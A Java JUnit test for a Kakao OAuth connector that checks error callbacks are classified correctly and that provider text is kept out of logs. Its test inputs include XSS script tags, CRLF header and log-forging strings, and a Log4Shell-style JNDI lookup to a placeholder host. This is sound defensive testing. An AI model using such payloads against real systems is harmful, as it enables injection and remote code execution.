package dev.socialconnector.kakao;

import static org.assertj.core.api.Assertions.assertThat;

import dev.socialconnector.AuthorizationCallback;
import dev.socialconnector.AuthorizationRequest;
import dev.socialconnector.ConnectorException;
import dev.socialconnector.ConnectorException.Reason;
import dev.socialconnector.ConnectorException.Step;
import dev.socialconnector.ConnectorException.Turn;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/** Callbacks that bring an error instead of a code. */
class CallbackErrorTest {
    private static final String DESCRIPTION = "<script>alert('described')</script>\r\nlevel=INFO forged\u0000";

    private final EmulatedLogin login = new EmulatedLogin();
    private final AuthorizationRequest request = login.begin();

    @AfterEach
    void close() {
        login.close();
    }

    /** A6: each known word has its meaning. */
    @ParameterizedTest
    @CsvSource({
        "access_denied, DENIED, PERSON",
        "consent_required, CONSENT_REQUIRED, PERSON",
        "login_required, LOGIN_REQUIRED, PERSON",
        "interaction_required, LOGIN_REQUIRED, PERSON",
        "account_selection_required, LOGIN_REQUIRED, PERSON",
        "auto_login, LOGIN_REQUIRED, PERSON",
        "invalid_scope, MISCONFIGURED, OPERATOR",
        "invalid_client, MISCONFIGURED, OPERATOR",
        "unauthorized_client, MISCONFIGURED, OPERATOR",
        "unauthorized, MISCONFIGURED, OPERATOR",
        "misconfigured, MISCONFIGURED, OPERATOR",
        "unsupported_response_type, MISCONFIGURED, OPERATOR",
        "invalid_request, UNEXPECTED_RESPONSE, OPERATOR",
        "server_error, UNAVAILABLE, LATER",
        "temporarily_unavailable, UNAVAILABLE, LATER"
    })
    void eachWordHasItsMeaning(String word, Reason reason, Turn turn) {
        ConnectorException failure = failure(word, DESCRIPTION);

        assertThat(failure.reason()).isEqualTo(reason);
        assertThat(failure.reason().turn()).isEqualTo(turn);
        assertThat(failure.step()).isEqualTo(Step.CALLBACK);
        assertThat(failure.providerCode()).contains(word);
        assertThat(printed(failure)).doesNotContain("described", "forged", "<script>");
    }

    static Stream<String> unknownWords() {
        return Stream.of(
                "",
                " ",
                "null",
                "marked_word",
                "ACCESS_DENIED_marked",
                "access_denied marked",
                "access_denied\r\nSet-Cookie: marked=1",
                "<img src=x onerror=marked()>",
                "marked".repeat(600),
                "\u0000\u202Emarked\uD83D\uDC7B",
                "${jndi:ldap://marked.example.kr/a}");
    }

    /** A6: an unknown word does not crash, means no more than that something went wrong, and is not repeated. */
    @ParameterizedTest
    @MethodSource("unknownWords")
    void anUnknownWordIsNotRepeated(String word) {
        ConnectorException failure = failure(word, DESCRIPTION);

        assertThat(failure.reason()).isEqualTo(Reason.UNEXPECTED_RESPONSE);
        assertThat(failure.providerCode()).isEmpty();
        assertThat(printed(failure)).doesNotContain("marked", "described", "forged");
    }

    /** A6: the largest description that is let in is not logged whole, nor in part. */
    @ParameterizedTest
    @CsvSource({"access_denied", "server_error", "no_word_of_anybody"})
    void aHugeDescriptionIsNotLogged(String word) {
        ConnectorException failure = failure(word, "described".repeat(450));

        assertThat(printed(failure)).doesNotContain("described");
        assertThat(failure.getMessage()).hasSizeLessThan(300);
    }

    /** A6: pressing cancel at Kakao. */
    @Test
    void cancellingIsDenied() {
        String query = login.kakao.cancel(request.uri()).getRawQuery();

        ConnectorException failure = login.refusalWithoutCall(query, request.session());

        assertThat(failure.reason()).isEqualTo(Reason.DENIED);
    }

    /** A6: a silent sign-in of somebody who has not agreed yet. */
    @Test
    void aSilentSignInOfANewcomerRequiresConsent() {
        AuthorizationRequest silent =
                login.connector.begin(EmulatedLogin.options().prompt("none"));
        String query = login.kakao.approve(silent.uri(), "newcomer").getRawQuery();

        ConnectorException failure = login.refusalWithoutCall(query, silent.session());

        assertThat(failure.reason()).isEqualTo(Reason.CONSENT_REQUIRED);
    }

    /** A6: Kakao says access_denied of children as well; for them it is no choice of theirs. */
    @Test
    void aChildIsRestrictedAndHasNotDenied() {
        String query = login.kakao.approve(request.uri(), "under14").getRawQuery();

        ConnectorException failure = login.refusalWithoutCall(query, request.session());

        assertThat(query).contains("error=access_denied");
        assertThat(failure.reason()).isEqualTo(Reason.ACCOUNT_RESTRICTED);
    }

    /** A6: an error beside a code wins; the code is not spent. */
    @Test
    void anErrorBesideACodeWins() {
        String query = login.approvedQuery(request) + "&error=access_denied";

        ConnectorException failure = login.refusalWithoutCall(query, request.session());

        assertThat(failure.reason()).isEqualTo(Reason.DENIED);
    }

    /** A6: neither an error nor a code is a callback of nobody. */
    @Test
    void neitherCodeNorErrorIsRefused() {
        String state = "state=" + request.session().state();

        ConnectorException none = login.refusalWithoutCall(state, request.session());
        ConnectorException empty = login.refusalWithoutCall(state + "&code=", request.session());

        assertThat(none.reason()).isEqualTo(Reason.INVALID_CALLBACK);
        assertThat(empty.reason()).isEqualTo(Reason.INVALID_CALLBACK);
    }

    private ConnectorException failure(String error, String description) {
        String query = "error=" + encode(error) + "&error_description=" + encode(description) + "&state="
                + request.session().state();
        assertThat(AuthorizationCallback.fromQuery(query).error()).contains(error);
        return login.refusalWithoutCall(query, request.session());
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    private static String printed(ConnectorException failure) {
        StringWriter log = new StringWriter();
        failure.printStackTrace(new PrintWriter(log, true));
        return log.toString();
    }
}
